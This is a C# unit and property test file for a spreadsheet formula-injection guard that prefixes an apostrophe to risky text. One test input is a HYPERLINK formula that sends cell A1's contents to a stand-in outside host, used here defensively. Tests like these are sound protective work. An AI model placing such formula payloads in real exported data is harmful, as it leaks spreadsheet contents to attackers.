using FsCheck;
using FsCheck.Fluent;
using PerfEtl.Pipeline.Query;

namespace PerfEtl.Tests.Query;

/// <summary>Texts that a spreadsheet takes for formulas get an apostrophe, and nothing else changes.</summary>
public sealed class FormulaGuardTests
{
    [Theory]
    [InlineData("=4场", "'=4场")]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"点\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"点\")")]
    [InlineData("+86 10", "'+86 10")]
    [InlineData("-", "'-")]
    [InlineData("-5%", "'-5%")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("\n文", "'\n文")]
    [InlineData("  =1", "'  =1")]
    [InlineData("\u3000=1", "'\u3000=1")]
    [InlineData("＝1", "'＝1")]
    [InlineData("'=1", "''=1")]
    [InlineData("'", "''")]
    [InlineData("", "")]
    [InlineData(">=90%", ">=90%")]
    [InlineData("≥30公里", "≥30公里")]
    [InlineData("A=B", "A=B")]
    [InlineData("1-2批", "1-2批")]
    [InlineData("  文", "  文")]
    public void Of_Text_IsGuardedOnlyWhereItHasToBe(string text, string expected) =>
        Assert.Equal(expected, FormulaGuard.Of(text));

    [Fact]
    public void Of_AnyText_ComesBackByTakingOneApostropheAway() => Prop.ForAll<NonNull<string>>(text =>
    {
        var guarded = FormulaGuard.Of(text.Get);
        return (guarded.StartsWith('\'') ? guarded[1..] : guarded) == text.Get;
    }).QuickCheckThrowOnFailure();
}
